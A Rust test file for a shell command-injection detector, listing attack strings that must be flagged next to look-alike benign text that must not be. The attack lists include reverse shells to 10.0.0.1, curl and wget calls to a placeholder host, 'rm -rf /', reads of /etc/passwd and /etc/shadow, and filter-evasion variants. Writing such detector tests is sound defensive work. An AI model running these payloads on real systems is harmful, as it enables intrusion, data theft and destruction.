//! Our own tables: attacks by their structure, and their honest twins.

use super::*;
use crate::rule::Confidence;

fn confidence(value: &str) -> Option<Confidence> {
    let found = [injection, whole, function_import].into_iter().filter_map(|find| find(value.as_bytes()));
    found.map(|found| found.confidence).max()
}

#[test]
fn added_commands_are_certain() {
    for value in [
        ";id",
        "; id",
        "|id|",
        "'|id|'",
        "\";id;\"",
        "a);id",
        "x|/usr/bin/id",
        "& ping -i 30 127.0.0.1 &",
        "127.0.0.1 && whoami",
        "127.0.0.1 & ipconfig /all",
        "1.png || uname -a #",
        "\ncat /etc/passwd",
        "8.8.8.8\nid",
        "`id`",
        "`ping 127.0.0.1`",
        "x`sleep 5`",
        "$(id)",
        "$(sleep 5)",
        "report$(curl http://x.example/$(whoami)).pdf",
        ";c'a't /etc/passwd",
        ";c\\at /etc/passwd",
        ";cat$IFS/etc/passwd",
        ";{cat,/etc/passwd}",
        ";$'\\x63\\x61\\x74' /etc/passwd",
        ";/???/c?t /etc/passwd",
        ";who$@ami",
        "| type C:\\Windows\\win.ini",
        "& dir c:\\",
        "&& net user",
        "|| p^i^n^g 127.0.0.1",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "; python3 -c 'import os'",
        ";sudo cat /etc/shadow",
        "; sleep 10 #",
        "| sleep 5 |",
        "; wget http://x.example/a.sh -O /tmp/a",
        "; rm -rf /",
        "; echo pwned > /tmp/x",
        "&& echo $((1337*2))",
        "; ls -la",
        ";ls",
        "foo; netstat -an",
        "please print my name; cat /etc/passwd",
        "cat /etc/passwd",
        "/bin/ls -al",
        "/bin/cat /etc/hosts",
        "() { :;}; /bin/id",
        "() { ignored; }; echo x",
        ";systeminfo",
        "%0a;powershell -enc SQBFAFgA",
        "\";sleep 5;\"",
    ] {
        assert_eq!(confidence(value), Some(Certain), "{value:?}");
    }
}

/// What stands between an opener and the command, or behind its arguments, changes nothing.
#[test]
fn noise_does_not_lower_a_finding() {
    let blanks = " ".repeat(100);
    let assignments = "a=b ".repeat(100);
    let quotes = "''".repeat(100);
    for value in [
        format!("x;{blanks}cat /etc/passwd"),
        format!("x|\t{blanks}id"),
        format!("x;{assignments}cat /etc/passwd"),
        format!("x;{}cat /etc/passwd", "! ".repeat(20)),
        format!("x;{}cat /etc/passwd", "{ ".repeat(20)),
        format!("x;{}cat /etc/passwd", "sudo ".repeat(20)),
        format!("x;{}cat /etc/passwd", "time ".repeat(20)),
        format!("x;{}cat /etc/passwd", ">a ".repeat(20)),
        format!("x;{}cat /etc/passwd", "\\\n".repeat(8)),
        format!("x{}cat /etc/passwd", "\n".repeat(8)),
        format!("x;c{quotes}at /etc/passwd"),
        "x;2>/dev/null cat /etc/passwd".to_owned(),
        "x;</dev/null cat /etc/passwd".to_owned(),
        "x;cat /etc/passwd a b c d e f".to_owned(),
        "x;rm -rf /app the quick brown fox jumps".to_owned(),
        "x|nc 10.0.0.1 4444 -e /bin/sh is what we use".to_owned(),
        "x;f(){ cat /etc/passwd;};f".to_owned(),
        "x;until cat /etc/passwd;do :;done".to_owned(),
        "x;coproc cat /etc/passwd".to_owned(),
        "x;scp /etc/passwd a@b:".to_owned(),
        "x&schtasks /create /tn a /tr calc".to_owned(),
        "x&sc stop firewall".to_owned(),
        "x&rd /s /q c:\\x".to_owned(),
        "x;iex $a".to_owned(),
        "x;Start-Process calc".to_owned(),
    ] {
        assert_eq!(confidence(&value), Some(Certain), "{value:?}");
    }
}

#[test]
fn everyday_values_are_not() {
    for value in [
        "&id",
        "Tom & Jerry",
        "a;b",
        "cats | dogs",
        "R&D; sales",
        "$HOME sweet",
        "price is $(5)",
        "run `cargo build` first",
        "use `ls -la` to list, or `cat /etc/hosts`",
        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "Mozilla/5.0 (Windows NT 6.3; Touch; rv:11.0) like Gecko",
        "Apt is gated; call when you get here",
        "c/o front desk; ring twice",
        "name;id;email",
        "email|name|id",
        "items.map(|id| id + 1)",
        "| id | name |",
        "D;O=A",
        "sort by date; find more",
        "rock & sort of folk",
        "sleep; eat; repeat",
        "they ate; cat food was left",
        "x; time = 5",
        "a(); find(b); print(c)",
        "Foo and 80&#039;s Foo",
        "q=1&sort=asc&type=all&id=5",
        "$(document).ready(go)",
        "$(id).show()",
        "salt & echo chamber",
        "less; more; none",
        "who; what; when",
        "head & shoulders",
        "Merge pull request #1\n\nUpdate README.md",
        "ls",
        "ping me later",
        "cat food",
        "sleep 8 hours",
        "find the nearest ATM; date of birth required",
        "fn main() { body(); }; rest",
        "M&S; M&Ms",
        "kill & bill",
        "5 > 3 && 2 < 4",
        "a || b",
        "host; guest",
        "4|28940|10142125|||TC||C|||",
        "font: 12px; set; top: 0",
        "vol. 3; ver. 2; ed. 1",
        "level=info; msg=done user=ann id=5",
        "turn left at 5th; rd closed",
        "until then; do nothing",
        "class A { void f() { cat.feed(); } }",
        "function () { find(x) }",
    ] {
        assert!(confidence(value) < Some(Certain), "{value:?} {:?}", injection(value.as_bytes()));
    }
}

/// However many separators, openers and words come first, the command behind them is found.
#[test]
fn what_comes_before_does_not_use_up_the_reading() {
    let units = [
        "a&",
        "a|",
        "a&&",
        "x=1&",
        "<!**-|",
        "(",
        "{ ",
        "a=b ",
        ">a ",
        "if true;then ",
        ";ls 'a' ",
        "\\\n",
        "$(",
        "a``",
    ];
    for unit in units {
        for attack in [";cat /etc/passwd", "$(cat /etc/passwd)"] {
            let value = format!("x;{}{attack}", unit.repeat(1_500));
            let found = injection(value.as_bytes()).map(|found| found.confidence);
            assert_eq!(found, Some(Certain), "{unit:?} {attack:?}");
        }
    }
    let found = injection(";ls 'a ".repeat(40_000).as_bytes());
    assert!(found.is_none_or(|found| found.confidence < Certain));
}

#[test]
fn grammar_around_a_command_hides_nothing() {
    for value in [
        "x;\\cat /etc/passwd".to_owned(),
        "x|\\cat /etc/passwd".to_owned(),
        "x;\\id".to_owned(),
        "x;\\ls -la /".to_owned(),
        "x;2>&1 cat /etc/passwd".to_owned(),
        "x;>&2 id".to_owned(),
        "x;bash <(curl e)".to_owned(),
        "x;base64 -d<<<aWQ=|sh".to_owned(),
        "x;eval $(echo aWQ= | base64 -d)".to_owned(),
        "x;c\\\nat /etc/passwd".to_owned(),
        "x;IFS=,;cat,/etc/passwd".to_owned(),
        "x;env id".to_owned(),
        "x;env -i a=b id".to_owned(),
        "x;timeout 5 id".to_owned(),
        "x;timeout 5 nice -n 5 id".to_owned(),
        "x;. /tmp/x".to_owned(),
        "x;>/etc/passwd".to_owned(),
        "x;iex (iwr http://e/x)".to_owned(),
        format!("x;cat {}/etc/passwd", "-u ".repeat(40)),
        format!("x;/{}bin/cat /etc/passwd", "/".repeat(140)),
        format!("x;/bin/{}cat /etc/passwd", "../bin/".repeat(40)),
        format!("x;c{}at /etc/passwd", "$@".repeat(70)),
        format!("x;cat{}/etc/passwd", "${IFS}".repeat(200)),
    ] {
        assert_eq!(confidence(&value), Some(Certain), "{value:?}");
    }
    for value in [
        "$a & \\ln 5$",
        "|\\ln 5|",
        "x & \\date \\\\",
        "C:\\a; \\\\host\\share",
        "done; env vars are set",
        "half time; timeout called by us",
        "fine; . and so on",
        "done. . top; . report.txt",
        "$x & \\cat y$ \\\\",
        "a; iex (Elixir's shell) is fine",
        "x; 2 > 1",
        "see; exec (board) meets",
        "bash (the shell); bash scripts (all)",
    ] {
        assert!(confidence(value) < Some(Certain), "{value:?} {:?}", injection(value.as_bytes()));
    }
}

/// Every pair of openers, repeated: no time is asserted here, but a quadratic reading of one pair
/// would keep this test for minutes.
#[test]
fn mixed_openers_without_end_are_read_to_their_end() {
    let units = ["`", "${", "$(", "<(", "\"", "'", "{", "((", "<<", ";", "|", "&", "\\", "$", "%", " "];
    for one in units {
        for other in units {
            let value = format!("{one}{other}").repeat(2_000);
            let _ = (super::injection(value.as_bytes()), super::whole(value.as_bytes()));
        }
    }
}
